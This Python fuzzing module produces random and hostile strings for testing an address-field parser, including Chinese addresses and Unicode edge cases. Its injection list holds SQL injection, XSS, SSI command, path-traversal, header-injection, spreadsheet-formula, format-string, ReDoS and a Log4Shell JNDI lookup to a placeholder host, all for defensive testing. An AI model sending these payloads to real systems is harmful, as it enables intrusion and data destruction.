"""Texts that an address field may hold although nobody lives there: seeded, so that a failure can be repeated.

`random_texts` is breadth: strings of random characters from many alphabets, among them those addresses are made of.
`hostile_texts` is depth: what breaks parsers and what makes regular expressions slow. All of it is valid Avro text
(UTF-8); `LONE_SURROGATES` is not, and is here for code that is handed a string by something other than Avro.
"""

import random
from collections.abc import Iterator

_HAN = "北京市朝阳区上海杭州西湖望园小花苑路街道弄号楼幢栋座单元室层期门村组第附甲乙东南西北中一二三十百零〇"
_ALPHABETS = (
    _HAN,
    _HAN + "0123456789",
    "0123456789-—/#.,，。 ",
    "号楼单元室层弄0123456789ABC-()（）#",
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 .,#/-",
    "臺灣東區號樓單元園門廣華麗寶龍國際灣",
    "ＡＢＣ１２３（）－＃　①②③㈠㊣㎡㍿ﬁ",
    "😀🏠👨‍👩‍👧‍👦🇨🇳✈️‼️",
    "абвгдежзийклмнопрстуфхцчшщъыьэюя",
    "אבגדהוזחטיךכלםמןנסעףפץצקרשת",
    "ابتثجحخدذرزسشصضطظعغفقكلمنهوي",
    "ก่ข้ค๊ง๋จ์ฉำ",
    "가각간갇갈ㄱㅏㄴㅓ",
    "あいうえおアイウエオヴヵヶゝ々",
    "\u0300\u0301\u0302\u20dd\u0489é̷́",
    "\x00\x01\x07\x08\x09\x0a\x0b\x0c\x0d\x1b\x7f\x85\xa0\u200b\u200c\u200d\u200e\u200f\u202e\u2028\u2029\ufeff",
    "\ue000\uf8ff\ufdd0\ufffe\uffff\U0001fffe\U0010ffff\ufffd",
    "𠀀𠮷𡃁𪚥𝟘𝟙𝟚𝐀𝔸",
)
_ADDRESS = "北京市朝阳区望京西园三区3号楼2单元501室"
_INJECTIONS = (
    "'; drop table collateral; --",
    "1' or '1'='1",
    '" or ""="',
    "robert'); delete from ledger where (1=1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!--#exec cmd='id'-->",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: a=b",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%s%s%s%n%x",
    "${jndi:ldap://example.org/a}",
    "\\u0000\\x00\\0",
    "(?:a+)+$",
    "]]>]]&gt;<![CDATA[",
    '{"address": {"$ne": null}}',
    "NaN",
    "Infinity",
    "-1",
    "1e400",
    "null",
    "undefined",
    "None",
    "true",
)
_RUNS = (
    *"号楼幢栋座单元室层弄期区路街道省市县镇乡村组第附甲A0193-—#()（）[]【】/，一十百零〇的",
    *("号楼", "单元", "-1", "1-", "(1", "1)", "()", ")(", "((", "1号", "号1", "1弄", "弄1号", "第1", "附1号", "共1层"),
    *("1层", "路1号", "北京", "北京市", "朝阳区", "街道", "开发区", "管理区", "大街", "胡同", "零一", "十十", "百百"),
    *("1个车位", "张三", "收件人", "先生", "13800138000", "邮编", "地址", "中国", "村1组", "9", "99号楼", "#1", "1#"),
    *("Ａ座", "e\u0301", "\u0301", "😀", "👨‍👩‍👧", "\x00", "\u202e", "ﷺ", "㍿"),
)

LONE_SURROGATES = ("\ud800", "北京\udfff市", "\ud83d朝阳区3号楼", "3号楼\ude00501室")


def random_texts(seed: int, count: int) -> Iterator[str]:
    """`count` strings of up to 40 characters, each from one alphabet or from two."""
    rng = random.Random(seed)
    for _ in range(count):
        alphabet = rng.choice(_ALPHABETS)
        if rng.random() < 0.3:
            alphabet += rng.choice(_ALPHABETS)
        yield "".join(rng.choices(alphabet, k=rng.randint(0, 40)))


def hostile_texts(seed: int, count: int = 5_000) -> Iterator[str]:
    """`count` strings meant to break or to stall: the fixed ones first, then seeded mixtures of them."""
    rng = random.Random(seed)
    fixed = list(_fixed())
    yield from fixed[:count]
    makers = (_spliced, _repeated, _shuffled, _nested, _long)
    for _ in range(count - len(fixed)):
        yield rng.choice(makers)(rng)


def _fixed() -> Iterator[str]:
    yield from ("", " ", "\t\r\n", "\x00", "-" * 300, "." * 10_000)
    yield from _INJECTIONS
    yield from (_ADDRESS + one for one in _INJECTIONS)
    for run in _RUNS:
        for length in (30, 256, 10_240):
            yield (run * length)[:length]
    yield "(" * 5_000 + ")" * 5_000
    yield "".join(_ADDRESS + "e" + "\u0301" * 500)
    yield _ADDRESS * 400


def _spliced(rng: random.Random) -> str:
    """An address with something else in the middle."""
    at = rng.randrange(len(_ADDRESS))
    return _ADDRESS[:at] + rng.choice(_INJECTIONS + _RUNS) * rng.randint(1, 5) + _ADDRESS[at:]


def _repeated(rng: random.Random) -> str:
    """Runs in sequence: 号号号…((((…1-1-1-: what anchored and optional patterns go back over."""
    return "".join(rng.choice(_RUNS) * rng.randint(1, 120) for _ in range(rng.randint(1, 4)))


def _shuffled(rng: random.Random) -> str:
    characters = list(_ADDRESS * rng.randint(1, 12))
    rng.shuffle(characters)
    return "".join(characters)


def _nested(rng: random.Random) -> str:
    depth = rng.randint(1, 200)
    opening, closing = rng.choice(("()", "（）", "[]", "【】", "(（", "<>"))
    return _ADDRESS[: rng.randint(0, 20)] + opening * depth + rng.choice(_RUNS) + closing * rng.randint(0, depth)


def _long(rng: random.Random) -> str:
    alphabet = rng.choice(_ALPHABETS) + rng.choice(_ALPHABETS)
    return "".join(rng.choices(alphabet, k=rng.choice((300, 1_000, 3_400))))
